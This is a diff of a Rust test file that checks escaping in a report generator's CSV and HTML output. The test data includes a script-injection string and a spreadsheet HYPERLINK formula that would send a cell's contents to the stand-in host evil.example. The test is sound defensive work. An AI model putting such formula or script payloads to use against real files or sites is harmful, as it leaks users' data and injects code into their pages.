@@ -378,7 +378,7 @@ async fn a_formula_name_is_text_in_the_csv_and_a_script_name_is_escaped_in_the_h
         .await
         .unwrap();
     assert!(!html.contains("<script"), "no script element: {html}");
-    assert!(html.contains("<td>&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;<br>"));
+    assert!(html.contains("<td>&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;<br>"));
     assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"));
 }
 
@@ -681,7 +681,7 @@ async fn the_csv_links_its_definitions_and_the_json_and_html_carry_the_same() {
             "the CSV companion defines {name} as the JSON does"
         );
         assert!(
-            footnotes.contains(&*wfmd::report::escape_html(definition)),
+            footnotes.contains(&*html_escape::encode_quoted_attribute(definition)),
             "the page defines {name} as the JSON does"
         );
     }
